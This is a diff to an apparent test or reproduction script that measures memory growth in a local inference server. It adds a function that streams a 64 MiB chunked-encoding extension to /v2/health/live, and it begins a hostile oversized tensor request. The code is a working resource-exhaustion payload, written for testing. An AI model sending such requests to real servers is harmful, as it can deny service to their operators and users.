@@ -48,6 +48,25 @@ def send(port: int, data: bytes) -> int:
         return int(first.split(b" ", 2)[1]) if first else 0
 
 
+def send_endless_extension(port: int, total: int) -> int:
+    """Sends a chunk header whose extension runs on for `total` bytes (1 MiB at a time, so
+    this process holds little of it) and returns the status the server answered with."""
+    head = b"GET /v2/health/live HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n1;x="
+    piece = b"a" * MiB
+    with socket.create_connection(("127.0.0.1", port), timeout=300) as s:
+        try:
+            s.sendall(head)
+            for _ in range(total // MiB):
+                s.sendall(piece)
+        except (BrokenPipeError, ConnectionResetError):
+            pass  # the server answered and stopped reading: the point
+        try:
+            first = s.recv(65536)
+        except ConnectionResetError:
+            return 0
+        return int(first.split(b" ", 2)[1]) if first else 0
+
+
 def post(port: int, body: bytes, extra: str = "") -> bytes:
     return (f"POST /v2/models/m/infer HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
             f"Connection: close\r\nContent-Length: {len(body)}\r\n{extra}\r\n").encode() + body
@@ -61,8 +80,7 @@ def main() -> None:
     port = int(dep.url.rsplit(":", 1)[1])
     rows = []
     try:
-        head = b"GET /v2/health/live HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n1;x="
-        status, grew = peak_growth(lambda: send(port, head + b"a" * (64 * MiB)))
+        status, grew = peak_growth(lambda: send_endless_extension(port, 64 * MiB))
         rows.append(("64 MiB chunk extension on /v2/health/live", "200-370 MB per 200 MB, held", status, grew))
 
         hostile = json.dumps({"inputs": [{"name": name, "shape": [1048576, 64], "datatype": "FP32",
